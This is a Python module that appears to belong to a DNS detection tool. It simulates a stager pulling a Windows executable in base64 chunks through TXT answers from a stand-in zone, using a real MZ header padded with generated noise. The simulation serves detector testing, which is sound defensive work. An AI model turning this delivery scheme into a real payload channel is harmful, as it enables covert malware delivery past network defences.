"""A stager fetches a Windows program in TXT answers, piece by piece, in base64."""

import base64
from collections.abc import Iterator
from typing import Final

from dnsguard.behaviours.behaviour import NODATA, NXDOMAIN, Behaviour, Reply, below, noise, queries, text

ZONE: Final = "pkg.update-cache.example"
PIECE: Final = 720
"""Characters of base64 in each answer."""
DOS_HEADER: Final = bytes.fromhex("4d5a90000300000004000000ffff0000b800000000000000400000000000000000000000")
"""How nearly every Windows program begins."""
PROGRAM: Final = base64.b64encode(DOS_HEADER + noise("stager", 8000)).decode()
PIECES: Final = -(-len(PROGRAM) // PIECE)


def _names() -> Iterator[str]:
    return (f"{number}.{ZONE}" for number in range(PIECES))


def _reply(name: str, qtype: int) -> Reply | None:
    if not below(name, ZONE):
        return None
    number = name.split(".", 1)[0]
    if not number.isdigit() or int(number) >= PIECES:
        return NXDOMAIN
    start = int(number) * PIECE
    return text(PROGRAM[start : start + PIECE]) if qtype == 16 else NODATA


BEHAVIOUR: Final = Behaviour(
    slug="data_infiltration",
    story="fetches a program in TXT answers",
    packets=lambda: queries(_names(), "TXT"),
    reply=_reply,
)
